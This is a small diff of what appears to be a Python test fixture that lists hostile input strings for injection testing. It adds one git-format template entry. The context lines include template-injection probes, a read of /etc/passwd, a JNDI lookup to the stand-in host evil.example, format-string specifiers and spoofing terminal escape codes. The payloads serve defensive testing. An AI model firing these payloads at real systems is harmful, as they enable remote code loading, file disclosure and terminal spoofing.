@@ -27,7 +27,7 @@ MARKUP = (
 )  # fmt: skip
 TEMPLATES = (
     "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{# x #}", "${jndi:ldap://evil.example/x}", "${7*7}",
-    "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{build_id}", "%(name)s", "%s%n%x", "f'{1}'", "{state!r}", "{{build.id}}",
+    "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{build_id}", "%(name)s", "%s%n%x", "f'{1}'", "{state!r}", "{{build.id}}", "$Format:%GG$",
 )  # fmt: skip
 TERMINAL = (
     "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31mred", "\x1b[31mred\x1b[0m",
